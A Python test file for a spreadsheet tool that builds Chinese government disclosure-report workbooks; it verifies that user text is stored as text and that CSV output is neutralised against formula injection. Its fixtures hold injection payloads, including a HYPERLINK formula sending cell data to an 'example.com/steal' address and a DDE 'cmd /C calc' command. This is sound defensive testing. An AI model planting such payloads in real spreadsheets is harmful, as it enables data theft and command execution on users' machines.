"""User text never becomes a formula (gxxl.util.safety), in every output that holds it.

* our own workbooks (builder, import → workbook, the consolidated workbook's official part):
  text cells, exactly as written, Text format on the editable cells; LibreOffice opening and
  recalculating the file leaves them text;
* CSV and the Excel results sheet: a leading = + - @ gets an apostrophe.
"""
from __future__ import annotations

import re
import zipfile

import openpyxl
import pytest

from gxxl import read, schema
from gxxl.samples import bureau as sample
from gxxl.errors import GxxlError
from gxxl.model import Finding
from gxxl.util.safety import neutralise
from gxxl.workbook.api import new_workbook

from conftest import SEED

HOSTILE = {
    "organ": '=HYPERLINK("http://example.com/steal?"&A1,"点我")',
    "overview": "-某某局2024年工作情况：坚持公开为常态。",
    "problems": "=1+2",
    "other": "@SUM(1,2) 没有收取信息处理费。",
    "preface": "—本报告依据《条例》编制。",
    "contact": "+86 0537-8727890",
}


def _cell(ws, code):
    loc = schema.layout()[code]
    return ws.cell(loc.row, loc.col)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    p = tmp_path_factory.mktemp("inj") / "注入.xlsx"
    vals = sample.sample_values()
    vals["requests.new.natural"] = "=SUM(D7:D9)"  # a typed value that looks like a formula
    meta = {**sample.SAMPLE_META, "organ": HOSTILE["organ"], "contact": HOSTILE["contact"]}
    narrative = {k: HOSTILE[k] for k in ("overview", "problems", "other", "preface")}
    new_workbook(p, meta=meta, values=vals, narrative=narrative,
                 explanations=[("B.balance", "=cmd|' /C calc'!A0 说明")])
    return p


def test_builder_stores_text_cells_exactly(hostile):
    wb = openpyxl.load_workbook(hostile)
    cells = [(_cell(wb[schema.SHEET_COVER], "meta.organ"), HOSTILE["organ"]),
             (_cell(wb[schema.SHEET_COVER], "meta.contact"), HOSTILE["contact"]),
             (_cell(wb["表三 依申请公开"], "requests.new.natural"), "=SUM(D7:D9)")]
    cells += [(_cell(wb[schema.SHEET_NARRATIVE], f"narrative.{k}"), HOSTILE[k]) for k in ("overview", "problems", "other", "preface")]
    for c, text in cells:
        assert (c.value, c.data_type) == (text, "s"), c.coordinate
    for k in ("overview", "problems"):
        assert _cell(wb[schema.SHEET_NARRATIVE], f"narrative.{k}").number_format == "@"
    assert _cell(wb[schema.SHEET_COVER], "meta.organ").number_format == "@"
    assert _cell(wb[schema.SHEET_COVER], "meta.year").number_format != "@"  # the year stays a number
    # and in the package itself: no formula element holds user text
    with zipfile.ZipFile(hostile) as zf:
        xml = "".join(zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/"))
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert formulas and not any("HYPERLINK" in f or f in ("1+2", "SUM(D7:D9)") or "calc" in f for f in formulas)


def test_round_trip_gives_back_the_same_words(hostile):
    rep = read(hostile)
    assert rep.organ == HOSTILE["organ"]
    for k in ("overview", "problems", "other", "preface"):
        assert rep.narrative[k] == HOSTILE[k]
    v = rep.values["requests.new.natural"]
    assert v.value is None and v.raw == "=SUM(D7:D9)" and v.problem == "text"
    from gxxl.rules import validate

    assert "fill.text" in {f.rule for f in validate(rep).errors}


def test_libreoffice_keeps_them_text(recalc, hostile):
    """A real spreadsheet program opens and recalculates the file: nothing is evaluated."""
    out = recalc([hostile])[0]
    rep = read(out)
    assert rep.organ == HOSTILE["organ"] and rep.narrative["problems"] == "=1+2"
    assert rep.values["requests.new.natural"].raw == "=SUM(D7:D9)"


def test_control_characters_and_overlong_text(tmp_path):
    p = tmp_path / "控制字符.xlsx"
    new_workbook(p, meta={"organ": "某局\x07\x1b", "year": 2024}, narrative={"overview": "一段\x0c文字\x00"})
    rep = read(p)
    assert rep.organ == "某局" and rep.narrative["overview"] == "一段文字"
    with pytest.raises(GxxlError, match="32767"):
        new_workbook(tmp_path / "长.xlsx", narrative={"overview": "字" * 40000})
    assert not (tmp_path / "长.xlsx").exists()


def test_import_to_workbook_keeps_formula_like_text(tmp_path):
    text = SEED.read_text(encoding="utf-8").replace("## 一、总体情况\n", "## 一、总体情况\n\n=HYPERLINK(\"http://x\")开头的一段。\n", 1)
    src = tmp_path / "注入年报.md"
    src.write_text(text, encoding="utf-8")
    from gxxl.ingest import import_to_workbook

    out = tmp_path / "导入.xlsx"
    import_to_workbook(src, out)
    wb = openpyxl.load_workbook(out)
    c = _cell(wb[schema.SHEET_NARRATIVE], "narrative.overview")
    assert c.data_type == "s" and c.value.startswith('=HYPERLINK("http://x")开头')
    assert read(out).narrative["overview"] == c.value


def test_csv_and_results_sheet_values_are_neutralised():
    assert [neutralise(x) for x in ("=1", "+1", "-1", "@a", "\tx", "正常", "—破折号", 5, None)] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "正常", "—破折号", 5, None]
    assert neutralise("=a\x01b") == "'=ab"
    from gxxl.excel import _results_rows
    from gxxl.rules.engine import ValidationResult

    f = Finding("structure.label", "error", '=HYPERLINK("http://x") C3：表格文字应为“…”', sheet="=HYPERLINK(1)", cell="C3")
    res = ValidationResult(report=None, findings=[f])
    [row] = _results_rows(res, {})
    assert row[3].startswith("'=") and row[5] == "'=HYPERLINK(1)"
    # our own link stays a formula; the sheet name is only inside its quoted string literals
    assert row[4] == '=HYPERLINK("#\'=HYPERLINK(1)\'!C3","=HYPERLINK(1)!C3")'
